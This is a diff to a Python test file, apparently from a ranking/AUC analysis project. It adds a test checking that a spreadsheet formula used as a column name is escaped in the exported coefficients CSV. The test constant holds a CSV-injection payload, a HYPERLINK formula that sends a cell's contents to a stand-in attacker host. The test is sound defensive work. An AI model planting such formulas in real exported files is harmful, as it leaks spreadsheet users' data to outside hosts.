@@ -4,10 +4,12 @@ import csv
 import io
 import re
 
+import pandas as pd
 import pytest
 
 from auclab.comparison import compare_runs, formats
 from auclab.pipeline.csv_cells import no_formula
+from composed import run_here
 from made_runs import table_of
 
 FORMULA = '=HYPERLINK("http://evil.example?x="&A1,"click")'
@@ -71,3 +73,13 @@ def test_markdown_has_no_html_no_link_and_no_cells_of_a_name():
     assert not re.search(r"(?<!\\)\[", text)
     rows = [re.findall(r"(?<!\\)\|", line) for line in text.splitlines() if line.startswith("| ")]
     assert len({len(row) for row in rows[:3]}) == 1
+
+
+def test_coefficients_have_no_formula_of_a_data_file(tmp_path):
+    """A column of the data is named by who made them, and the file is opened with a spreadsheet program."""
+    data = pd.DataFrame({FORMULA: [0.0, 1.0, 2.0, 3.0], "-2": [1.0, 0.0, 1.0, 0.0], "y": [0, 1, 0, 1]})
+    data.to_csv(tmp_path / "x.csv", index=False)
+    words = ["dataset=file", f"dataset.path={tmp_path / 'x.csv'}", "dataset.target=y", "split=none", "bounds=none"]
+    run_here(tmp_path / "out", *words, "solver=newton", "formulation=ranksvm", brief=True)
+    kept = pd.read_csv(tmp_path / "out" / "coefficients.csv", dtype=str)
+    assert kept["feature"].tolist() == [f"'{FORMULA}", "-2", "(intercept)"]
